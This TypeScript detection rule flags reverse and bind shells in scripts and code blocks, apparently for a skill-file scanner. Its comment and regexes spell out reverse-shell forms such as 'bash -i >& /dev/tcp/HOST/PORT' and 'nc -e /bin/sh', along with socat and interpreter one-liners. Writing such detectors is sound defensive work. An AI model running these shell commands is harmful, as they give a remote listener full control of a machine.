/**
 * sentinel/reverse-shell — code that hands a shell to a remote host:
 * `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT` (and `ncat`/`netcat`,
 * `-c`, `--exec`), the `mkfifo … | nc` pipe, `socat … exec:/bin/sh`, interpreter
 * one-liners (`python -c '…socket…connect…'`, `perl -e '…Socket…'`, `php -r '…fsockopen…'`,
 * `ruby -rsocket -e`), and, across lines, a Python socket whose descriptors are
 * `os.dup2`-ed onto a shell or `pty.spawn`ed, or a PowerShell `Net.Sockets.TCPClient`
 * driving `Invoke-Expression`.
 *
 * Why: a reverse shell gives whoever listens at HOST full control of the machine; no
 * skill needs one. `/dev/tcp/localhost/…` health checks and `nc -zv host port` probes
 * are not findings. Scope: scripts and fenced code of non-SKILL.md Markdown.
 */
import type { Rule } from '../../rules/types.ts';
import { emit } from './report.ts';
import { candidates, inCode, sentinelView } from './view.ts';

const ONE_LINERS = new RegExp(
  [
    String.raw`\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,300}?[<>]&?\s*\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1)\/)`,
    String.raw`[<>]&?\s*\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1)\/)[\w.-]+\/\d{1,5}\s+0>&1`,
    String.raw`\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;&]{0,300}?\s(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)\s+["']?\S*(?:\/bin\/)?(?:ba|z)?sh\b`,
    String.raw`\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;&]{0,300}?\s-[a-zA-Z]*e\s+["']?(?:cmd|powershell)(?:\.exe)?\b`,
    String.raw`\bmkfifo\s+\S+[^\n]{0,300}\|\s*(?:nc|ncat|netcat)\b`,
    String.raw`\bsocat\b[^\n]{0,300}\b(?:exec|system):[^\n]{0,300}\b(?:ba|z)?sh\b`,
    String.raw`\bpython[0-9.]*\s+-c\s+["'][^\n]{0,300}\bsocket\b[^\n]{0,300}\bconnect\s*\(`,
    String.raw`\bperl\s+-e\s+["'][^\n]{0,300}(?:\buse\s+Socket\b|IO::Socket)`,
    String.raw`\bphp\s+-r\s+["'][^\n]{0,300}\bfsockopen\s*\(`,
    String.raw`\bruby\s+-rsocket\s+-e\b`,
  ].join('|'),
  'gi',
);

/** Multi-line Python: a socket plus dup2 onto fds 0–2 or pty.spawn of a shell. */
const PY_SHELL = /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[0-2]\s*\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["']\/bin\/(?:ba|z)?sh["']\s*,\s*["']-i["']/g;
const PY_SOCKET = /\bsocket\.socket\s*\(|\bsocket\.create_connection\s*\(/;
const PS_CLIENT = /New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\s*\(/gi;
const PS_EXEC = /\b(?:iex|Invoke-Expression)\b/i;

export const rule: Rule = {
  meta: {
    id: 'sentinel/reverse-shell',
    module: 'Sentinel',
    dimension: 'dim10',
    defaultSeverity: 'error',
    category: 'malicious-command',
    description: {
      en: 'Reverse or bind shell: a shell wired to a network socket (bash -i >& /dev/tcp, nc -e, socket + dup2).',
      zh: '反弹/绑定 shell：把 shell 接到网络连接上（bash -i >& /dev/tcp、nc -e、socket + dup2）。',
    },
    fixable: false,
    messages: {
      shell: {
        en: 'Reverse shell: this wires a shell to a remote socket, giving the listener control of the machine{note}.',
        zh: '反弹 shell：把 shell 接到远程连接上，监听方即可控制本机{note}。',
      },
    },
  },
  check(ctx) {
    const reported = new Set<string>();
    for (const { sf, seg, start: from, end: to } of candidates(sentinelView(ctx.doc), 'revshell', inCode)) {
      const line = sf.info.text.slice(from, to);
      let m: RegExpExecArray | null;
      ONE_LINERS.lastIndex = 0;
      while ((m = ONE_LINERS.exec(line))) {
        const start = from + m.index;
        emit(ctx, { sf, seg, start, end: start + m[0].length, messageId: 'shell', base: 'error', kind: 'judgment', category: 'malicious-command' });
      }
      // Across lines: a Python socket whose fds go to a shell, a PowerShell TCP client driving iex.
      const key = `${sf.file.path}:${seg.start}`;
      for (const [re, needs] of [[PY_SHELL, PY_SOCKET], [PS_CLIENT, PS_EXEC]] as const) {
        re.lastIndex = 0;
        if (!(m = re.exec(line)) || reported.has(key)) continue;
        if (!needs.test(sf.info.text.slice(seg.start, seg.end))) continue;
        reported.add(key);
        const start = from + m.index;
        emit(ctx, { sf, seg, start, end: start + m[0].length, messageId: 'shell', base: 'error', kind: 'judgment', category: 'malicious-command' });
      }
    }
  },
};
